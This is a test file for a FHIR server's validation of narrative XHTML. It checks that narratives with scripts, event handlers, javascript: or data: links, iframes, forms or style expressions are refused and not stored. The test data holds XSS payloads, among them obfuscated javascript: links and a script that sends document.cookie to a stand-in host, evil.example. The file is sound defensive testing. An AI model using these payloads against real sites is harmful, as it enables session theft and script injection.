/**
 * The R4 narrative rules (txt-1, txt-2) enforced on every write, JSON and XML,
 * for the resource's own narrative and for those of resources inside it: a
 * narrative with a script, an event handler, a script URL, a forbidden element
 * or attribute, or that is not well-formed XHTML is refused (4xx naming the
 * element) and never stored, so it is never served back to other clients.
 */
import { describe, expect, it } from 'vitest';
import { narrativeProblems } from '../../src/validation/narrative.js';
import { FHIR_JSON, useTestServer } from '../helpers/test-server.js';

const XHTML = 'http://www.w3.org/1999/xhtml';
const div = (inner: string) => `<div xmlns="${XHTML}">${inner}</div>`;
const patient = (narrative: string) => ({ resourceType: 'Patient', text: { status: 'generated', div: narrative }, name: [{ family: 'Durand' }] });

const hostile: Array<[string, string]> = [
  ['a <script> element', div('<p>Durand</p><script>fetch("//evil.example/"+document.cookie)</script>')],
  ['an onerror handler on an image', div('<img src="x" onerror="alert(1)"/>')],
  ['an onclick handler', div('<p onclick="alert(1)">Durand</p>')],
  ['a javascript: link', div('<a href="javascript:alert(1)">Durand</a>')],
  ['a javascript: link hidden by case and whitespace', div('<a href=" JaVa\tScRiPt:alert(1)">Durand</a>')],
  ['a javascript: link hidden by character references', div('<a href="&#106;ava&#x73;cript&#58;alert(1)">Durand</a>')],
  ['a data: link', div('<a href="data:text/html;base64,PHNjcmlwdD4=">Durand</a>')],
  ['an iframe', div('<iframe src="https://evil.example/"></iframe>Durand')],
  ['a form', div('<form action="https://evil.example/"><input name="x"/></form>')],
  ['an object', div('<object data="x.swf">Durand</object>')],
  ['a style element', div('<style>body{display:none}</style><p>Durand</p>')],
  ['a style running code', div('<p style="width:expression(alert(1))">Durand</p>')],
  ['a link element', div('<link rel="stylesheet" href="https://evil.example/x.css"/><p>Durand</p>')],
  ['a processing instruction', div('<?xml-stylesheet href="x"?><p>Durand</p>')],
  ['markup that is not well-formed', div('<p>Durand<img src=x onerror=alert(1)></p>')],
  ['an unclosed element', div('<p>Durand')],
  ['two roots', `${div('a')}${div('b')}`],
  ['a root other than div', `<p xmlns="${XHTML}">Durand</p>`],
  ['a div outside the XHTML namespace', '<div><p>Durand</p></div>'],
  ['no content (txt-2)', div('<p> </p>')],
  ['a DOCTYPE', `<!DOCTYPE div [<!ENTITY x "y">]>${div('&x;')}`],
];

describe('narrative rules (unit)', () => {
  it('accepts what the R4 narrative allows: formatting, tables, lists, links, images, entities, style', () => {
    expect(
      narrativeProblems(
        div(
          '<h1 class="title">Hélène Dupont&nbsp;&amp; famille</h1><p style="color: red; background: url(bg.png)" lang="fr" xml:lang="fr"><b>INS</b> <i>2500375123456</i><br/>' +
            '<a href="https://relais-sante.fr/fhir/Patient/p1" title="dossier">dossier</a> <a name="top">haut</a></p>' +
            '<table border="1" cellpadding="2"><thead><tr><th scope="col">Acte</th></tr></thead><tbody><tr><td colspan="2" valign="top">Pansement</td></tr></tbody></table>' +
            '<ul><li>un</li></ul><ol start="2"><li>deux</li></ol><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"/><!-- commentaire -->',
        ),
      ),
    ).toEqual([]);
    expect(narrativeProblems(div('<img src="#logo" alt=""/>'))).toEqual([]);
  });
  for (const [what, narrative] of hostile) {
    it(`refuses ${what}`, () => {
      expect(narrativeProblems(narrative)).not.toEqual([]);
    });
  }
});

describe('narrative rules on write', () => {
  const { inject } = useTestServer();

  for (const [what, narrative] of hostile.slice(0, 8)) {
    it(`a Patient whose narrative has ${what} is refused and not stored`, async () => {
      const res = await inject({ method: 'PUT', url: '/fhir/Patient/narrative-test', headers: FHIR_JSON, payload: { ...patient(narrative), id: 'narrative-test' } });
      expect(res.statusCode).toBe(400);
      expect(res.json().issue).toContainEqual(expect.objectContaining({ severity: 'error', expression: ['Patient.text.div'] }));
      expect((await inject({ method: 'GET', url: '/fhir/Patient/narrative-test' })).statusCode).toBe(404);
    });
  }

  it('a hostile narrative inside a Bundle entry or a contained resource is refused too', async () => {
    const bad = div('<img src="x" onerror="alert(1)"/>');
    const bundle = { resourceType: 'Bundle', type: 'collection', entry: [{ fullUrl: 'urn:uuid:6f1c1a44-2c56-4f1c-9a77-0a1b2c3d4e5f', resource: patient(bad) }] };
    const res = await inject({ method: 'POST', url: '/fhir/Bundle', headers: FHIR_JSON, payload: bundle });
    expect(res.statusCode).toBe(400);
    expect(res.json().issue[0].expression).toEqual(['Bundle.entry[0].resource.text.div']);
    const contained = { resourceType: 'Observation', status: 'final', code: { text: 'x' }, contained: [{ ...patient(bad), id: 'p' }], subject: { reference: '#p' } };
    expect((await inject({ method: 'POST', url: '/fhir/Observation', headers: FHIR_JSON, payload: contained })).statusCode).toBe(400);
  });

  it('a hostile narrative sent as FHIR XML is refused the same way', async () => {
    const xml = `<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="${XHTML}"><p onmouseover="alert(1)">Durand</p></div></text></Patient>`;
    const res = await inject({ method: 'POST', url: '/fhir/Patient', headers: { 'content-type': 'application/fhir+xml', accept: 'application/fhir+json' }, payload: xml });
    expect(res.statusCode).toBe(400);
    expect(res.json().issue[0].expression).toEqual(['Patient.text.div']);
  });

  it('$validate reports the narrative error', async () => {
    const res = await inject({ method: 'POST', url: '/fhir/Patient/$validate', headers: FHIR_JSON, payload: patient(div('<script>alert(1)</script>x')) });
    expect(res.statusCode).toBe(200);
    expect(res.json().issue[0]).toMatchObject({ severity: 'error', expression: ['Patient.text.div'] });
  });

  it('a valid narrative is stored and served back exactly as written', async () => {
    const narrative = div('<p><b>Hélène Dupont</b>&nbsp;— <a href="https://relais-sante.fr">réseau</a></p>');
    const created = await inject({ method: 'POST', url: '/fhir/Patient', headers: FHIR_JSON, payload: patient(narrative) });
    expect(created.statusCode, created.body).toBe(201);
    const read = await inject({ method: 'GET', url: `/fhir/Patient/${created.json().id}` });
    expect(read.json().text.div).toBe(narrative);
  });
});
